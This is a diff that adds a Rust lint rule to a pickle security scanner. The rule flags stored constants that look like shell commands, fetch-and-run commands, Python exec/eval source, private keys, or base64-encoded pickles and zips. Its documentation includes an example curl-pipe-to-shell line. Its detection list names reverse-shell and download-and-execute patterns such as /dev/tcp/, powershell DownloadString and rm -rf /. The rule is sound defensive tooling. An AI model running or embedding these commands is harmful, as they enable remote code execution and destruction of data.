@@ -1,0 +1,166 @@
+//! ## What it does
+//! Reports a constant that is a shell command, a command that fetches and runs something, Python source that
+//! executes text, a private key, or base64 of a pickle or of a zip, and that no call takes. Pickles of up to a
+//! megabyte are looked through.
+//!
+//! ## Why is this bad?
+//! Such a text does nothing by itself. It shows what a program that takes it from the data may be made to run, or a
+//! secret that was stored by mistake.
+//!
+//! ## Example
+//! ```pickle
+//! b'\x80\x04\x8c\x1ccurl http://example.com | sh.'
+//! ```
+//!
+//! ```pickle
+//! b'V-----BEGIN RSA PRIVATE KEY-----\n.'
+//! ```
+//!
+//! ## Use instead
+//! Keep commands and keys out of data.
+//!
+//! ## References
+//! - [CWE-798](https://cwe.mitre.org/data/definitions/798.html): hard-coded credentials
+
+use memchr::memmem;
+use pickle_ops::{Op, Opcode, Reader};
+
+use crate::analysis::Seen;
+use crate::diagnostic::Severity;
+use crate::lint::Reporter;
+use crate::rule::{Check, Meta, Rule};
+
+pub(crate) static RULE: Rule = Rule {
+    meta: Meta {
+        code: "PG113",
+        name: "suspicious-text",
+        severity: Severity::Info,
+        since: "0.1.0",
+        source: include_str!("suspicious_text.rs"),
+    },
+    checks: &[Check::Pickle(check)],
+};
+
+/// Bytes of a pickle that is looked through.
+const MOST_BYTES: usize = 1 << 20;
+/// Bytes of a constant that is looked at.
+const LONGEST: usize = 1 << 16;
+
+/// A piece of text that gives a kind away.
+struct Sign {
+    piece: &'static str,
+    /// Another one that has to be in the same text.
+    with: &'static [&'static str],
+    what: &'static str,
+}
+
+const fn sign(piece: &'static str, with: &'static [&'static str], what: &'static str) -> Sign {
+    Sign { piece, with, what }
+}
+
+const SIGNS: &[Sign] = &[
+    sign("PRIVATE KEY-----", &["-----BEGIN"], "a private key"),
+    sign("/bin/sh", &[" -c", " -i", "|"], "a shell command"),
+    sign("/bin/bash", &[" -c", " -i", "|"], "a shell command"),
+    sign("/dev/tcp/", &[], "a shell command that connects"),
+    sign(
+        "curl ",
+        &["| sh", "|sh", "| bash", "|bash", "| python"],
+        "a command that fetches and runs something",
+    ),
+    sign("wget ", &["| sh", "|sh", "| bash", "|bash", "&& "], "a command that fetches and runs something"),
+    sign("powershell", &[" -e", " -E", "IEX", "DownloadString"], "a shell command"),
+    sign("rm -rf /", &[], "a shell command"),
+    sign(
+        "__import__(",
+        &["os", "subprocess", "socket", "exec", "eval"],
+        "Python source that imports by name",
+    ),
+    sign(
+        "exec(",
+        &["compile(", "base64", "marshal", "zlib", "__import__", "import "],
+        "Python source that executes text",
+    ),
+    sign("eval(", &["compile(", "base64", "__import__", "input("], "Python source that executes text"),
+];
+
+/// How base64 of pickles of protocols 2 to 5 and of zip files begins.
+const ENCODED: &[(&str, &str)] = &[
+    ("gASV", "a pickle"),
+    ("gAWV", "a pickle"),
+    ("gANj", "a pickle"),
+    ("gAJj", "a pickle"),
+    ("UEsDB", "a zip file"),
+];
+
+fn check(seen: &Seen<'_, '_>, report: &mut Reporter<'_>) {
+    let range = seen.summary.start..seen.summary.end;
+    let Some(bytes) = seen.bytes.get(range.clone()).filter(|bytes| bytes.len() <= MOST_BYTES) else { return };
+    let pieces = SIGNS.iter().map(|sign| sign.piece).chain(ENCODED.iter().map(|row| row.0));
+    if !pieces.into_iter().any(|piece| memmem::find(bytes, piece.as_bytes()).is_some()) {
+        return;
+    }
+    let mut reader = Reader::new(&seen.bytes[..range.end], range.start);
+    let mut previous = None;
+    while let Ok(op) = reader.next_op() {
+        if op.opcode.is_text()
+            && op.raw.len() <= LONGEST
+            && let Some(what) = kind(&op)
+            && !is_argument(&reader)
+            && previous != Some(op.raw)
+        {
+            let message = format!("a constant is {what}");
+            report.push(report.finding(op.start..op.end, message).help("no call of this pickle takes it"));
+            previous = Some(op.raw);
+        }
+    }
+}
+
+/// What a text is.
+fn kind(op: &Op<'_>) -> Option<String> {
+    let text = String::from_utf8_lossy(op.raw);
+    let has = |sign: &&Sign| {
+        text.contains(sign.piece)
+            && (sign.with.is_empty() || sign.with.iter().any(|with| text.contains(with)))
+    };
+    if let Some(sign) = SIGNS.iter().find(has) {
+        return Some(sign.what.to_owned());
+    }
+    let body = text.trim_matches(['\'', '"']);
+    let encoded = ENCODED.iter().find(|row| body.starts_with(row.0) && body.len() >= 24);
+    let is_base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=-_\r\n".contains(&byte);
+    encoded.filter(|_| body.bytes().all(is_base64)).map(|row| format!("base64 of {}", row.1))
+}
+
+/// Whether what follows makes the text an argument of a call: the rules about calls have it.
+fn is_argument(reader: &Reader<'_>) -> bool {
+    let mut ahead = reader.clone();
+    for _ in 0..MOST_AHEAD {
+        match ahead.next_op().map(|op| op.opcode) {
+            Ok(Opcode::Reduce | Opcode::NewObj | Opcode::NewObjEx | Opcode::Inst | Opcode::Obj) => {
+                return true;
+            }
+            Ok(op) if op.is_literal() || is_between(op) => {}
+            _ => return false,
+        }
+    }
+    false
+}
+
+/// Ops that are looked at behind a text.
+const MOST_AHEAD: usize = 16;
+
+/// Ops that come between an argument and its call.
+fn is_between(opcode: Opcode) -> bool {
+    matches!(
+        opcode,
+        Opcode::Tuple
+            | Opcode::Tuple1
+            | Opcode::Tuple2
+            | Opcode::Tuple3
+            | Opcode::Memoize
+            | Opcode::BinPut
+            | Opcode::LongBinPut
+            | Opcode::Put
+    )
+}
